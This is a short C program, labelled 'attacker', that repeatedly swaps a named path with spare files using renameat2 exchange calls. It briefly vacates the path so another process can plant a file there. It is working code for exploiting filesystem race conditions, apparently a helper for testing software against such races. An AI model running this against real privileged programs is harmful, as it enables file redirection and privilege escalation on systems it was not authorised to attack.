// Exchanges what has a name for something else, as fast as the kernel lets it, until it is killed:
//
//   attacker PLACE SPARE...
//
// What is at PLACE and what is at a SPARE change places, in turn. Now and then PLACE is left empty
// for a moment, so that somebody else may make something there, which takes part in the exchange
// from then on where that can be done.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>

int main(int count, char **arguments) {
  const char *place = arguments[1];
  char aside[4096];
  snprintf(aside, sizeof aside, "%s.aside", arguments[2]);
  for (unsigned turn = 0;; turn++) {
    const char *spare = arguments[2 + turn % (count - 2)];
    if (renameat2(AT_FDCWD, spare, AT_FDCWD, place, RENAME_EXCHANGE) != 0) {
      renameat2(AT_FDCWD, spare, AT_FDCWD, place, RENAME_NOREPLACE);
    }
    if (turn % 16 == 0 && renameat2(AT_FDCWD, place, AT_FDCWD, aside, RENAME_NOREPLACE) == 0) {
      for (volatile int i = 0; i < 20000; i++);
      renameat2(AT_FDCWD, aside, AT_FDCWD, place, RENAME_NOREPLACE);
    }
    // What came back while something else was there.
    if (turn % 64 == 0) renameat2(AT_FDCWD, aside, AT_FDCWD, spare, RENAME_NOREPLACE);
  }
}
